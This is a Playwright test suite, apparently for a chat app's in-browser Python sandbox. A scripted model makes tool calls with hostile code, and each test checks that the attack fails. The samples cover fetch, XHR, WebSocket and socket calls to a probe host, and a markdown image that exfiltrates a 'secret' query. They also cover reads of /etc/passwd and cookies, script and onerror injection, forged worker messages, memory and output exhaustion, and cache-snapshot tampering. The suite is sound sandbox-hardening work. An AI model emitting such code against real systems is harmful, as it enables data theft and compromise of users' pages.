import { expect, test, type Page, newVisitorContext, firstPage } from './test';
import { addScenarios, FAKE_MODEL, openChat, send, waitForTurn } from './helpers';
import { SNAPSHOT_CACHE_NAME } from '../lib/targets/python/worker-url';
import { SNAPSHOT_DIGEST_KEY } from '../lib/targets/python/snapshot-digest.client';

/**
 * The attack suite: code a hostile dataset could make the model write. Each attack runs as a
 * tool call, followed by a second run that proves the interpreter still works. Every test fails
 * if the attack works.
 */
const PROBE = `${FAKE_MODEL}/__probe`;
const ALIVE = 'print("alive", 6 * 7)';
let counter = 0;

type Cell = ReturnType<Page['locator']>;

/**
 * One turn of the conversation: the model runs each of `codes` as a cell of its own (an attack, or
 * an attack and then a look at what it left), then ALIVE. Each cell runs whatever the one before
 * it did (an error, a time limit, a restart), as the model's next tool call would.
 */
async function attackTurn(page: Page, codes: string[]): Promise<{ cells: ReturnType<Page['getByRole']>; attackCells: Cell[]; aliveCell: Cell }> {
  counter += 1;
  const trigger = `e2e-attack-${counter}-${Date.now()}`;
  const calls = [...codes, ALIVE].map((code) => ({ toolCall: { name: 'python', arguments: { code } } }));
  await addScenarios([{ trigger, steps: [...calls, { text: `attack ${counter} finished` }] }]);
  const cells = page.getByRole('region', { name: 'Python code cell' });
  const before = await cells.count();
  await send(page, `Run this. ${trigger}`);
  await expect(page.getByText(`attack ${counter} finished`)).toBeVisible({ timeout: 60_000 });
  await waitForTurn(page);
  const attackCells = codes.map((_, index) => cells.nth(before + index));
  const aliveCell = cells.nth(before + codes.length);
  await expect(aliveCell).toHaveAttribute('data-cell-status', 'ok');
  await expect(aliveCell).toContainText('alive 42');
  return { cells, attackCells, aliveCell };
}

async function attack(page: Page, code: string): Promise<{ cells: ReturnType<Page['getByRole']>; attackCell: Cell; aliveCell: Cell }> {
  const { cells, attackCells, aliveCell } = await attackTurn(page, [code]);
  return { cells, attackCell: attackCells[0]!, aliveCell };
}

async function setTimeLimit(target: Page, timeoutMs: number): Promise<void> {
  await target.evaluate((ms) => localStorage.setItem('runpad:settings', JSON.stringify({ timeoutMs: ms })), timeoutMs);
}

async function probes(): Promise<unknown[]> {
  return (await (await fetch(`${FAKE_MODEL}/__probes`)).json()) as unknown[];
}

async function attackCellText(page: Page, code: string): Promise<string> {
  const { attackCell } = await attack(page, code);
  const text = await attackCell.getByTestId('cell-outputs').innerText();
  return text;
}

test.describe.configure({ mode: 'serial' });

let page: Page;

test.beforeAll(async ({ playwright, baseURL }) => {
  const context = await newVisitorContext(playwright, baseURL!);
  page = await firstPage(context);
  // A short time limit keeps the suite fast (the user's setting, as the settings dialog stores it),
  // yet long enough for the first run in a fresh interpreter on a loaded machine: at 2 s, the
  // "alive" check after a restart timed out at load 20.
  await page.addInitScript(() => localStorage.setItem('runpad:settings', JSON.stringify({ timeoutMs: 4000 })));
  page.on('pageerror', (error) => console.log('pageerror:', error.message));
  await openChat(page);
});

test.afterAll(async () => {
  expect(await probes()).toEqual([]);
  await page.context().close();
});

test('an infinite loop is interrupted and the interpreter keeps its state', async () => {
  const { attackCells: [attackCell, next] } = await attackTurn(page, ['kept = "state survives"\nwhile True:\n    pass', 'print(kept)']);
  await expect(attackCell!).toHaveAttribute('data-cell-status', 'timeout');
  await expect(attackCell!).toContainText('KeyboardInterrupt');
  await expect(attackCell!).toContainText('Variables were kept');
  await expect(next!).toContainText('state survives');
});

test('a C-level loop that ignores the interrupt is killed and the interpreter restarted', async () => {
  const { attackCell } = await attack(page, 'sum(range(10**12))');
  await expect(attackCell).toHaveAttribute('data-cell-status', 'timeout');
  await expect(attackCell).toContainText('The interpreter was restarted; variables were lost.');
});

test('time.sleep(120) is interrupted at the limit and the interpreter keeps its state', async () => {
  // The sleep waits on the interrupt buffer (runpad/waiting.py): the interrupt wakes it.
  const { attackCells: [attackCell, next] } = await attackTurn(page, ['slept = "state survives a sleep"\nimport time\ntime.sleep(120)', 'print(slept)']);
  await expect(attackCell!).toHaveAttribute('data-cell-status', 'timeout');
  await expect(attackCell!).toContainText('KeyboardInterrupt');
  await expect(attackCell!).toContainText('Variables were kept');
  await expect(next!).toContainText('state survives a sleep');
});

test('an infinite loop inside await is stopped', async () => {
  const { attackCell } = await attack(page, 'import asyncio\nasync def spin():\n    while True:\n        await asyncio.sleep(0)\nawait spin()');
  await expect(attackCell).toHaveAttribute('data-cell-status', /timeout|interrupted/);
});

test('deep recursion is an error, not a crash of the page', async () => {
  // Either Python's RecursionError, a wasm stack overflow (worker replaced), or the time limit.
  const { attackCell } = await attack(page, 'import sys\nsys.setrecursionlimit(10**6)\ndef f(n):\n    return f(n + 1)\nf(0)');
  await expect(attackCell).toHaveAttribute('data-cell-status', /error|crashed|timeout/);
});

const MEMORY_NOTICE = "needed more memory than the interpreter's limit of 1.5 GiB and was stopped. The interpreter was restarted";

test('a 3 GiB allocation is stopped at the memory limit during the run, with a MemoryError and a fresh interpreter', async () => {
  // 3 GiB in 512 MiB pieces (one 3 GiB object does not even fit a wasm32 index).
  await setTimeLimit(page, 30_000);
  const { attackCell } = await attack(page, 'kept = 1\nchunks = [bytearray(512 * 1024**2) for _ in range(6)]');
  await setTimeLimit(page, 2_000);
  await expect(attackCell).toHaveAttribute('data-cell-status', 'error');
  await expect(attackCell).toContainText('MemoryError');
  await expect(attackCell).toContainText(MEMORY_NOTICE);
  // Stopped by the memory limit, not by the 30 s time limit (which would say so in its notice).
  await expect(attackCell).not.toContainText('time limit');
  const { attackCell: stateCell } = await attack(page, 'print("kept" in globals())');
  await expect(stateCell).toContainText('False'); // a fresh interpreter
});

test('code that swallows MemoryError is still stopped at the memory limit', async () => {
  await setTimeLimit(page, 30_000);
  const code = 'hoard = []\nwhile True:\n    try:\n        hoard.append(bytearray(256 * 1024**2))\n    except BaseException:\n        pass';
  const { attackCell } = await attack(page, code);
  await setTimeLimit(page, 2_000);
  await expect(attackCell).toHaveAttribute('data-cell-status', /error|crashed/);
  await expect(attackCell).toContainText(MEMORY_NOTICE);
});

test('printing 100 MB keeps a bounded output with the middle elided', async () => {
  await setTimeLimit(page, 60_000);
  const { attackCell } = await attack(page, 'line = "x" * 999\nfor _ in range(100_000):\n    print(line)\nprint("the end")');
  await setTimeLimit(page, 2_000);
  await expect(attackCell).toHaveAttribute('data-cell-status', 'ok');
  await attackCell.getByRole('button', { name: /Show all/ }).click();
  const text = await attackCell.getByTestId('cell-outputs').innerText();
  expect(text).toContain('characters elided');
  expect(text).toContain('the end');
  expect(text.length).toBeLessThan(1_200_000);
});

test('displaying 1,000 images shows the first 20 and says so', async () => {
  const code = [
    'import base64',
    "PNG = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==')",
    'class Pixel:',
    '    def _repr_png_(self):',
    '        return PNG',
    'for _ in range(1000):',
    '    display(Pixel())',
  ].join('\n');
  const { attackCell } = await attack(page, code);
  await expect(attackCell.getByRole('img')).toHaveCount(20);
  await expect(attackCell).toContainText('980 more images were not shown');
});

test('8,000 display() calls do not freeze the page: outputs are capped and the page keeps drawing frames', async () => {
  await setTimeLimit(page, 60_000);
  // Frames drawn while the run's outputs arrive: a frozen page draws none.
  await page.evaluate(() => {
    const w = window as unknown as { __frames: number };
    w.__frames = 0;
    const tick = () => {
      w.__frames += 1;
      requestAnimationFrame(tick);
    };
    requestAnimationFrame(tick);
  });
  const { attackCell } = await attack(page, 'import time\nfor i in range(8000):\n    display(i)\n    if i % 500 == 0:\n        time.sleep(0.01)');
  await setTimeLimit(page, 2_000);
  await expect(attackCell).toHaveAttribute('data-cell-status', 'ok');
  await expect(attackCell).toContainText('outputs past the first 500');
  expect(await attackCell.locator('[data-output-type]').count()).toBeLessThanOrEqual(500);
  expect(await page.evaluate(() => (window as unknown as { __frames: number }).__frames)).toBeGreaterThan(10);
});

test('outputs Python posts itself, past every cap, are capped by the page', async () => {
  const code = [
    'import json, __main__',
    '# The kernel\'s own output function, reachable from user code.',
    '__runpad_emit = __main__.__runpad_emit',
    "PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='",
    'for _ in range(100):',
    '    __runpad_emit(json.dumps({"output_type": "display_data", "data": {"image/png": PNG}}))',
    'rows = [{"n": i} for i in range(20000)]',
    '__runpad_emit(json.dumps({"output_type": "display_data", "data": {"application/vnd.dataresource+json": {"schema": {"fields": [{"name": "n", "type": "integer"}]}, "data": rows}}}))',
    '__runpad_emit(json.dumps({"output_type": "stream", "name": "stdout", "text": "y" * 3000000}))',
    'print("posted")',
  ].join('\n');
  const { attackCell } = await attack(page, code);
  await expect(attackCell.getByRole('img')).toHaveCount(20);
  await expect(attackCell).toContainText('Some output was not kept');
  const text = await attackCell.getByTestId('cell-outputs').innerText();
  expect(text.length).toBeLessThan(1_200_000);
});

test('Python cannot drive the kernel through the worker’s global scope', async () => {
  const code = [
    'import js',
    'from pyodide.ffi import to_js',
    'from js import Object',
    '# comlink-shaped calls on the global scope: init again, lend fetch back, answer runs',
    'for call in [["init"], ["loadPackagesFor"], ["run"]]:',
    '    data = to_js({"id": "forged", "type": "APPLY", "path": call, "argumentList": []}, dict_converter=Object.fromEntries)',
    '    js.self.dispatchEvent(js.MessageEvent.new("message", to_js({"data": data}, dict_converter=Object.fromEntries)))',
    'print("fetch is", "present" if hasattr(js, "fetch") and js.fetch is not None else "absent")',
  ].join('\n');
  const text = await attackCellText(page, code);
  expect(text).toContain('fetch is absent');
  expect(await probes()).toEqual([]);
});

const NETWORK_ATTEMPTS: Array<[string, (url: string) => string]> = [
  ['js.fetch', (url) => `import js\nawait js.fetch("${url}")`],
  ['js.XMLHttpRequest', (url) => `import js\nr = js.XMLHttpRequest.new()\nr.open("GET", "${url}", False)\nr.send()`],
  ['pyodide.http.pyfetch', (url) => `from pyodide.http import pyfetch\nawait pyfetch("${url}")`],
  ['pyodide.http.open_url', (url) => `from pyodide.http import open_url\nopen_url("${url}")`],
  ['js.WebSocket', (url) => `import js\njs.WebSocket.new("${url.replace('http', 'ws')}")`],
  ['js.EventSource', (url) => `import js\njs.EventSource.new("${url}")`],
  ['js.importScripts', (url) => `import js\njs.importScripts("${url}")`],
  ['js.eval import()', (url) => `import js\nawait js.eval("import('${url}')")`],
  ['WorkerGlobalScope.prototype.fetch', (url) => `import js\nawait js.WorkerGlobalScope.prototype.fetch.call(js.self, "${url}")`],
  ['socket.create_connection', (url) => `import socket\nsocket.create_connection(("127.0.0.1", ${new URL(url).port || 80}), timeout=1)`],
];

for (const [name, code] of NETWORK_ATTEMPTS) {
  test(`${name} reaches neither another origin nor the app's own API`, async ({ baseURL }) => {
    // Another origin, then the app's own API: two cells of one turn.
    const { attackCells } = await attackTurn(page, [`${code(`${PROBE}/${encodeURIComponent(name)}`)}\nprint("REACHED")`, `${code(`${baseURL}/api/conversations`)}\nprint("REACHED")`]);
    for (const cell of attackCells) expect(await cell.getByTestId('cell-outputs').innerText()).not.toContain('REACHED');
    expect(await probes()).toEqual([]);
  });
}

test('storage and the DOM are not reachable', async () => {
  const targets = ['js.indexedDB.open("x")', 'js.document.cookie', 'js.window.location.href', 'js.caches.keys()'];
  const { attackCells } = await attackTurn(page, targets.map((target) => `import js\nprint("GOT", ${target})`));
  for (const cell of attackCells) expect(await cell.getByTestId('cell-outputs').innerText()).not.toContain('GOT');
});

test('forged worker messages are dropped and nothing is injected into the page', async () => {
  await page.evaluate(() => {
    (window as unknown as { __pwned?: boolean }).__pwned = false;
  });
  const code = [
    'import js, json',
    'for forged in [',
    '    {"id": "0", "type": "RETURN", "value": {"type": "RAW", "value": {"status": "ok"}}},',
    '    {"output_type": "display_data", "data": {"text/html": "<img src=x onerror=window.__pwned=true>"}},',
    '    "<script>window.__pwned = true</script>",',
    ']:',
    '    js.self.postMessage(js.JSON.parse(json.dumps(forged)))',
    'print("posted")',
  ].join('\n');
  const text = await attackCellText(page, code);
  expect(text).toContain('posted');
  expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBe(false);
});

test('/etc/passwd in the worker is the virtual filesystem, not the host', async () => {
  const text = await attackCellText(page, 'import os\nprint("exists:", os.path.exists("/etc/passwd"))\nprint(open("/etc/passwd").read() if os.path.exists("/etc/passwd") else "")');
  expect(text).not.toMatch(/root:x:0:0:root:\/root/);
  expect(text).not.toContain('/usr/sbin/nologin');
});

test('HTML and script in rich output do not execute, and markdown images cannot exfiltrate', async () => {
  await page.evaluate(() => {
    (window as unknown as { __pwned?: boolean }).__pwned = false;
  });
  const code = [
    'class Evil:',
    '    def _repr_markdown_(self):',
    `        return '<script>window.__pwned = true</script><img src="x" onerror="window.__pwned = true"> ![leak](${PROBE}/exfil?q=secret)'`,
    '    def _repr_html_(self):',
    '        return "<script>window.__pwned = true</script>"',
    'Evil()',
  ].join('\n');
  await attack(page, code);
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBe(false);
  expect(await probes()).toEqual([]);
});

test('a Python snapshot written into Cache Storage by someone else is discarded: Python starts cleanly, runs, and the entry is replaced', async ({ playwright, baseURL }) => {
  const context = await newVisitorContext(playwright, baseURL!);
  try {
    const visitor = await firstPage(context);
    const warnings: string[] = [];
    visitor.on('console', (message) => {
      if (message.type() === 'warning') warnings.push(message.text());
    });
    await openChat(visitor);
    const kept = () =>
      visitor.evaluate(
        async ([name, key]) => {
          const cache = await caches.open(name);
          const [request] = await cache.keys();
          const bytes = request ? new Uint8Array(await (await cache.match(request))!.arrayBuffer()) : null;
          const digest = bytes ? [...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))].map((b) => b.toString(16).padStart(2, '0')).join('') : null;
          return { size: bytes?.byteLength ?? 0, head: bytes ? [...bytes.slice(0, 16)].join(',') : '', digest, recorded: localStorage.getItem(key) };
        },
        [SNAPSHOT_CACHE_NAME, SNAPSHOT_DIGEST_KEY] as const,
      );
    // A returning visitor's browser keeps a snapshot in Cache Storage.
    await expect.poll(async () => (await kept()).size, { timeout: 60_000 }).toBeGreaterThan(4096);
    // What any context of this origin can do: write the entry.
    await visitor.evaluate(async (name) => {
      const cache = await caches.open(name);
      const [request] = await cache.keys();
      await cache.put(request!, new Response(new Uint8Array(4096).fill(7), { headers: { 'content-type': 'application/octet-stream' } }));
    }, SNAPSHOT_CACHE_NAME);
    expect((await kept()).head).toBe(Array(16).fill(7).join(','));

    await visitor.reload();
    await expect(visitor.getByTestId('kernel-status')).toHaveAttribute('data-kernel-state', 'ready', { timeout: 60_000 });
    // It did not match what this page recorded when the worker kept it: discarded, and said so.
    expect(warnings.join('\n')).toContain('did not match the digest this page recorded');
    const trigger = `e2e-snapshot-${Date.now()}`;
    await addScenarios([{ trigger, steps: [{ toolCall: { name: 'python', arguments: { code: ALIVE } } }, { text: 'snapshot check finished' }] }]);
    await send(visitor, `Run this. ${trigger}`);
    await expect(visitor.getByText('snapshot check finished')).toBeVisible({ timeout: 60_000 });
    await waitForTurn(visitor);
    await expect(visitor.getByRole('region', { name: 'Python code cell' }).first()).toContainText('alive 42');
    // The written entry is gone: what is kept now is a real snapshot, and the page recorded it.
    await expect.poll(async () => { const now = await kept(); return now.size > 4096 && now.digest === now.recorded; }, { timeout: 60_000 }).toBe(true);
  } finally {
    await context.close();
  }
});
